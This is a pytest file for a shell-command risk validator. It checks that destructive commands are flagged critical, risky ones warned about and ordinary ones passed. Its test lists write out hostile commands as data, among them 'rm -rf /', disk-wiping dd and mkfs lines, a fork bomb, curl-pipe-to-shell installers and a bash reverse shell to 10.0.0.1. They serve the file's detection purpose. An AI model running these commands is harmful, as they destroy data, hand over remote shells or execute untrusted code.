"""What ``application/programs/policy.py`` finds in a command, and that it never fails to answer."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from application.programs.policy import display, split, validate

CRITICAL = [
    "rm -rf /",
    "rm -rf /*",
    "rm -fr ~",
    "rm -rf $HOME",
    "rm -r --no-preserve-root /x",
    "rm -rf /etc",
    "rm /etc/passwd",
    "sudo rm -rf /usr/local",
    "timeout -k 5 10 rm -rf /",
    "env FOO=1 nice -n 5 rm -rf /var",
    "xargs -n 1 rm -rf /",
    "mkfs.ext4 /dev/sda1",
    "mkfs -t xfs /dev/nvme0n1",
    "wipefs -a /dev/sdb",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    ":(){ :|:& };:",
    "bomb(){ bomb|bomb& };bomb",
    "chmod -R 777 /",
    "chown -R nobody /etc",
    "curl -s https://example.com/install.sh | sh",
    "wget -qO- https://example.com/x | sudo bash",
    "shutdown -h now",
    "reboot",
    "systemctl poweroff",
    "init 0",
    "kill -9 -1",
    "echo 'nameserver 1.1.1.1' > /etc/resolv.conf",
    "tee -a /etc/hosts",
    "cp evil /usr/bin/ls",
    "sed -i s/a/b/ /etc/ssh/sshd_config",
    "find / -name '*.log' -delete",
    "echo x > /dev/sda",
    "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
    "python3 -c \"import shutil; shutil.rmtree('/')\"",
]
WARNED = {  # command: risk level
    "rm -rf build": "medium",
    "rm -rf .": "high",
    "rm -rf ../..": "high",
    "git push --force origin main": "medium",
    "git push origin +main": "medium",
    "git reset --hard HEAD~1": "medium",
    "git clean -fdx": "medium",
    "chmod 777 script.sh": "medium",
    "sudo apt-get install jq": "high",
    "cat setup.sh | bash": "high",
    "killall node": "high",
    "systemctl stop nginx": "high",
    "docker run --privileged alpine": "high",
    "docker system prune -a": "medium",
    "psql -c 'DROP TABLE users'": "high",
    "python3 -c 'open(\"/dev/tcp/x\")'": "high",
    "eval $SCRIPT": "medium",
    "crontab -r": "high",
    "dd if=a.img of=b.img": "medium",
}
SAFE = [
    "ls -la",
    "git status",
    "git push --force-with-lease",
    "npm test",
    "python -m pytest -q",
    'python3 -c "print(1)"',
    "rm build/output.txt",
    "echo hello",
    "docker ps",
    "grep -rn TODO .",
    "cat /etc/hostname",
    "ls /usr/bin",
]


@pytest.mark.parametrize("command", CRITICAL)
def test_a_destructive_command_is_critical_and_not_valid(command):
    found = validate(command).data()
    assert found["risk_level"] == "critical", found
    assert found["valid"] is False and found["safe"] is False
    assert found["warnings"][0] == "This command is potentially destructive"


@pytest.mark.parametrize("command", list(WARNED))
def test_a_risky_command_is_valid_with_a_warning(command):
    found = validate(command).data()
    assert found["risk_level"] == WARNED[command], found
    assert found["valid"] is True and found["safe"] is False and found["warnings"]


@pytest.mark.parametrize("command", SAFE)
def test_an_ordinary_command_is_valid_safe_and_low(command):
    assert validate(command).data() == {
        "valid": True,
        "safe": True,
        "risk_level": "low",
        "warnings": [],
        "suggestions": [],
    }


def test_seed_000_example_answers_the_seed_warnings_and_suggestions():
    found = validate("rm -rf /").data()
    assert found["warnings"] == [
        "This command is potentially destructive",
        "Command attempts to delete system files",
    ]
    assert found["suggestions"] == [
        "Use 'rm -rf ./directory' to delete specific directory",
        "Use 'ls' to list files before deletion",
    ]


def test_an_argv_is_checked_word_by_word_and_its_shell_scripts_too():
    assert validate(["rm", "-rf", "/"]).critical
    assert validate(["sh", "-c", "cd /tmp && rm -rf /"]).critical
    assert validate(["bash", "-c", "bash -c 'mkfs /dev/sda'"]).critical
    assert not validate(["echo", "rm -rf /"]).critical  # an argument, not a command
    assert not validate(["echo", "a | sh"]).critical
    assert validate(["sh", "-c", "npm test > /dev/null 2>&1"]).data()["safe"] is True


def test_operators_in_a_string_are_flagged_since_no_shell_runs_them():
    found = validate("npm test && npm run lint")
    assert found.risk_level == "low" and found.valid
    assert "No shell runs the command" in found.warnings[0]
    assert found.suggestions == ['Send ["sh", "-c", "..."] to run a pipeline']
    assert validate(["sh", "-c", "npm test && npm run lint"]).warnings == []


def test_an_empty_or_unreadable_command_is_not_valid():
    for command in ("", "   ", [""], "echo 'unclosed", 'echo "also'):
        found = validate(command).data()
        assert found["valid"] is False and found["safe"] is False, command
    assert validate(["sh", "-c", "echo 'unclosed"]).risk_level == "medium"


def test_a_string_is_split_like_a_shell_would_and_an_argv_is_kept():
    assert split("git commit -m 'two words'") == ["git", "commit", "-m", "two words"]
    assert split(["a b", "c"]) == ["a b", "c"]
    assert display(["git", "commit", "-m", "two words"]) == "git commit -m 'two words'"
    assert display("ls  -la") == "ls  -la"


words = st.text(st.characters(blacklist_categories=["Cs"]), max_size=40)


@settings(max_examples=300, deadline=None)
@given(st.one_of(words, st.lists(words, min_size=1, max_size=8)))
def test_any_input_gets_an_answer(command):
    found = validate(command).data()
    assert found["risk_level"] in ("low", "medium", "high", "critical")
    assert isinstance(found["valid"], bool) and isinstance(found["warnings"], list)


shellish = st.lists(
    st.sampled_from(
        ["rm", "-rf", "/", "|", "sh", "-c", "&&", ";", ">", "/etc/x", "sudo", "'", '"', "(", "x"]
    ),
    max_size=12,
).map(" ".join)


@settings(max_examples=300, deadline=None)
@given(shellish)
def test_any_shell_looking_text_gets_an_answer(command):
    assert validate(command).risk_level in ("low", "medium", "high", "critical")
